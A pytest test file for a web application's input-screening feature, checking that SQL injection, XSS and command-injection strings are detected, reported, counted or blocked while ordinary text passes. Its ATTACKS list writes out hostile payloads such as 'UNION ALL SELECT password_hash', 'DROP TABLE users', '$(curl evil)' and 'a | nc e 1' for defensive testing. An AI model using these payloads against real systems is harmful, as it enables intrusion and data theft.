"""Input screening: it reports, it can block, and it keeps its hands off what is meant to be so."""

from typing import Any

import httpx
import pytest

from tests.fixtures.actors import Caller, sign_in
from tests.fixtures.app import SUPERUSER, make_client, running
from undercroft.app import Application, create_app
from undercroft.foundation.http.screening import kind_of
from undercroft.foundation.settings import Settings

API = "/api/v1"
ATTACKS = {
    "sql": [
        "1' OR '1'='1",
        "x' or 1=1 --",
        "1 UNION ALL SELECT password_hash FROM auth.users",
        "1; DROP TABLE users",
        "1 AND pg_sleep(10)",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        '" onfocus=alert(1) autofocus',
    ],
    "command": [
        "x; cat /etc/hosts",
        "`id`",
        "$(curl evil)",
        "../../../../etc/passwd",
        "a | nc e 1",
    ],
}
HARMLESS = [
    "O'Brien",
    "Rock & Roll",
    "select committee on union matters",
    "2026-11-22T10:00:00+01:00",
    "ada@example.com",
    "it's or never",
    "C++ and C#",
    "a; b",
    "https://example.com/?a=1&b=2",
    "update on the drop-in centre",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari",
]


class TestPatterns:
    @pytest.mark.parametrize(
        ("kind", "text"), [(kind, text) for kind, texts in ATTACKS.items() for text in texts]
    )
    def test_know_an_attack(self, kind: str, text: str):
        assert kind_of(text.lower()) == kind

    @pytest.mark.parametrize("text", HARMLESS)
    def test_let_people_write(self, text: str):
        assert kind_of(text.lower()) is None

    @pytest.mark.parametrize("start", ["<", "'", ";", "union", "' or ", "'\t(", "$"])
    def test_read_long_texts_once(self, start: str):
        # With an open repetition this takes minutes.
        assert kind_of((start + " " * 100_000) + start * 10_000) is None


async def suspected(admin: Caller, address: str) -> list[dict[str, Any]]:
    params = {"action": "input.suspected", "address": address}
    return list((await admin.get(f"{API}/activity", params=params)).json()["items"])


class TestReport:
    async def test_is_the_default_and_lets_pass(self, app: Application, admin: Caller):
        async with make_client(app, address="2001:db8::51") as client:
            attacker = await sign_in(client, SUPERUSER)
            for _ in range(3):
                response = await attacker.get(f"{API}/users", params={"search": "x' or 1=1 --"})
                assert response.status_code == 200
        await app.control.state.refusals.flush(all_of_them=True)
        more, first = await suspected(admin, "2001:db8::51")
        assert first["metadata"] == {"code": "sql", "times": 1}
        assert more["metadata"]["times"] == 2
        assert "or 1=1" not in str(first)

    async def test_finds_what_hides_in_encodings(self, app: Application, admin: Caller):
        async with make_client(app, address="2001:db8::52") as client:
            await client.get(f"{API}/users?search=%253Cscript%253E")
        await app.control.state.refusals.flush(all_of_them=True)
        assert (await suspected(admin, "2001:db8::52"))[0]["metadata"]["code"] == "xss"

    async def test_is_counted(self, client: httpx.AsyncClient):
        await client.get(f"{API}/users", params={"search": "<script>"})
        metrics = (await client.get("/metrics")).text
        assert 'undercroft_screened_total{kind="xss"}' in metrics


class TestBlock:
    async def test_refuses_but_never_sql_or_bodies(self, settings: Settings):
        http = settings.http.model_copy(update={"screening": "block"})
        strict = settings.model_copy(update={"http": http})
        async with running(create_app(strict)) as app, make_client(app) as client:
            admin = await sign_in(client, SUPERUSER)
            attack = {"search": "1; DROP TABLE users"}
            refused = await admin.get(f"{API}/users", params=attack)
            assert (refused.status_code, refused.json()["code"]) == (403, "input_suspicious")
            assert (await admin.get(f"{API}/tables", params=attack)).status_code == 200
            note = {"message": "<script>alert(1)</script>; DROP TABLE users"}
            assert (await admin.post(f"{API}/activity", json=note)).status_code == 201

    async def test_off_is_off(self, settings: Settings):
        http = settings.http.model_copy(update={"screening": "off"})
        quiet = settings.model_copy(update={"http": http})
        async with running(create_app(quiet)) as app, make_client(app) as client:
            admin = await sign_in(client, SUPERUSER)
            response = await admin.get(f"{API}/users", params={"search": "<script>"})
            assert response.status_code == 200
